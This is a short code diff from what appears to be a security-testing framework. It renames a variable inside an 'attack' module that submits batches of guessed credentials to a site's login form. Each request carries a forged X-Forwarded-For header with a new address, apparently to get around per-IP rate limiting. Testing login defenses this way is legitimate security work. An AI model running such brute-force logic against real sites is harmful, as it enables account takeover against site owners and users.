@@ -19,8 +19,8 @@ export default attack({
   async attempt({ site }) {
     const { fields } = await readAccountForm(site, "/login");
     const answers = await mapInBatches(createRange(guesses), () => {
-      const invented = { "X-Forwarded-For": createNextAddress() };
-      return sendForm(site, "/login", { ...fields, ...createCredentials() }, invented);
+      const forgedHeaders = { "X-Forwarded-For": createNextAddress() };
+      return sendForm(site, "/login", { ...fields, ...createCredentials() }, forgedHeaders);
     });
     return countMatching(answers, isAnswered);
   },
